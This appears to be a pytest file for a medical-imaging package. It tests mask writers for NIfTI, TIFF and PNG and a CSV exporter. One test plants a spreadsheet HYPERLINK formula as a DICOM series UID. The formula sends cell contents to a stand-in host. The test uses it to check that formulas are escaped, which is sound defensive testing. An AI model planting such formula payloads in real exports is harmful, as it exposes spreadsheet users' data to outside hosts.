"""Mask files: NIfTI keeps the image's affine, TIFF keeps the page count, PNG the size; all refuse to clobber."""

from __future__ import annotations

import nibabel as nib
import numpy as np
import pytest
import tifffile
from PIL import Image
from pyconv_monai.writers import escape_cell, mask_suffix, write_csv, write_nifti_mask, write_png_mask, write_tiff_mask


def test_nifti_mask_has_the_image_affine(shared_data, tmp_path):
    ct = nib.load(shared_data / "ct_nifti_totalseg" / "example_ct_sm.nii.gz")
    label = np.asarray(nib.load(shared_data / "ct_nifti_totalseg" / "example_seg.nii.gz").dataobj) == 5  # liver
    path = write_nifti_mask(label, ct.affine, tmp_path / "liver_seg.nii.gz")
    out = nib.load(path)
    np.testing.assert_allclose(out.affine, ct.affine, atol=1e-5)
    assert out.shape == ct.shape and out.get_data_dtype() == np.uint8
    assert int(out.header["sform_code"]) == 1 and int(out.header["qform_code"]) == 1
    np.testing.assert_array_equal(np.asarray(out.dataobj), label.astype(np.uint8))
    with pytest.raises(FileExistsError):
        write_nifti_mask(~label, ct.affine, path)
    np.testing.assert_array_equal(np.asarray(nib.load(path).dataobj), label.astype(np.uint8))  # unchanged
    with pytest.raises(ValueError, match="3D mask"):
        write_nifti_mask(label[..., 0], ct.affine, tmp_path / "x.nii.gz")


def test_tiff_mask_keeps_pages(em_stack, tmp_path):
    labels = em_stack[1][:4]  # (pages, H, W) real ISBI labels
    stack = np.moveaxis(labels, 0, -1)  # (H, W, pages), as TiffReader gives stacks
    path = write_tiff_mask(stack, tmp_path / "stack_seg.tif")
    back = tifffile.imread(path)
    assert back.shape == labels.shape and back.dtype == np.uint8
    np.testing.assert_array_equal(back, np.where(labels > 0, 255, 0))
    single = tifffile.imread(write_tiff_mask(stack[..., 0], tmp_path / "page_seg.tif"))
    assert single.shape == labels.shape[1:]
    with tifffile.TiffFile(path) as tif:
        assert len(tif.pages) == 4


def test_png_mask(em_stack, tmp_path):
    label = em_stack[1][0]
    path = write_png_mask(label, tmp_path / "a_seg.png")
    back = np.asarray(Image.open(path))
    assert back.shape == label.shape and set(np.unique(back)) == {0, 255}
    np.testing.assert_array_equal(back > 0, label > 0)
    with pytest.raises(ValueError, match="2D mask"):
        write_png_mask(np.zeros((4, 4, 3)), tmp_path / "b.png")


def test_monai_writers_keep_shape_orientation_and_header(tmp_path):
    """NibabelWriter / PILWriter underneath: a one-slice volume stays 3D (not squeezed), rows stay rows."""
    rng = np.random.default_rng(0)
    one_slice = rng.random((6, 5, 1)) > 0.5
    affine = np.array([[0.7, -0.1, 0.0, -100.3], [0.1, 0.69, 0.0, 20.5], [0.0, 0.0, 2.5, 7.25], [0, 0, 0, 1.0]])
    out = nib.load(write_nifti_mask(one_slice, affine, tmp_path / "one_seg.nii.gz"))
    assert out.shape == (6, 5, 1) and out.get_data_dtype() == np.uint8
    np.testing.assert_array_equal(np.asarray(out.dataobj), one_slice.astype(np.uint8))
    np.testing.assert_allclose(out.header.get_sform(), affine, atol=1e-6)
    assert out.header.get_xyzt_units() == ("mm", "unknown") and out.header["descrip"] == b"pyconv-monai binary mask"
    for shape in [(3, 7), (1, 9), (9, 1)]:
        mask = rng.random(shape) > 0.5
        png = Image.open(write_png_mask(mask, tmp_path / f"{shape[0]}x{shape[1]}_seg.png"))
        assert png.mode == "L"
        np.testing.assert_array_equal(np.asarray(png), np.where(mask, 255, 0))


def test_mask_suffixes():
    assert [mask_suffix(k) for k in ("dicom_series", "nifti", "nrrd", "tiff", "image2d")] == [
        ".nii.gz", ".nii.gz", ".nii.gz", ".tif", ".png"
    ]  # fmt: skip
    with pytest.raises(ValueError, match="no mask format"):
        mask_suffix("dicom_seg")


def test_csv(tmp_path):
    path = write_csv([{"case": "a", "volume_ml": 1.0 / 3.0, "extra": 1}, {"case": "b"}], tmp_path / "v.csv")
    lines = open(path).read().splitlines()
    assert lines[0].startswith("case,input,kind,series_uid,status,message,slices,foreground_voxels")
    assert lines[1].split(",")[0] == "a" and "0.333333" in lines[1] and lines[2].startswith("b,")
    with pytest.raises(FileExistsError):
        write_csv([], path)


def test_csv_escapes_formulas_from_a_real_series(shared_data, tmp_path):
    """A SeriesInstanceUID ``=HYPERLINK(...)`` (a hostile header of a copy of a real series) reaches volumes.csv
    with a leading ``'``, so a spreadsheet shows it as text; numbers (negative ones too) stay numbers."""
    import csv

    from pyconv_monai.data import find_cases

    from tests.dicom_copies import copy_series

    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    copy_series(shared_data / "ct_dicom_dcmqi_3slice" / "dicom", tmp_path / "in", series_uid=evil)
    (case,) = find_cases(tmp_path / "in")
    assert case["series_uid"] == evil
    rows = [
        {**case, "status": "ok", "message": "+1 slice", "slices": 3, "volume_ml": -1.5},
        {"case": "@SUM(A1)", "message": "-3.5", "series_uid": "-2+3", "foreground_voxels": -4},
    ]
    with open(write_csv(rows, tmp_path / "volumes.csv"), newline="") as f:
        first, second = list(csv.DictReader(f))
    assert first["series_uid"] == "'" + evil and first["message"] == "'+1 slice"
    assert first["slices"] == "3" and first["volume_ml"] == "-1.5"  # numbers are not formulas
    assert second["case"] == "'@SUM(A1)" and second["series_uid"] == "'-2+3"
    assert second["message"] == "-3.5" and second["foreground_voxels"] == "-4"
    assert escape_cell("\tx") == "'\tx" and escape_cell("1.2.840.1") == "1.2.840.1" and escape_cell("-1e-3") == "-1e-3"
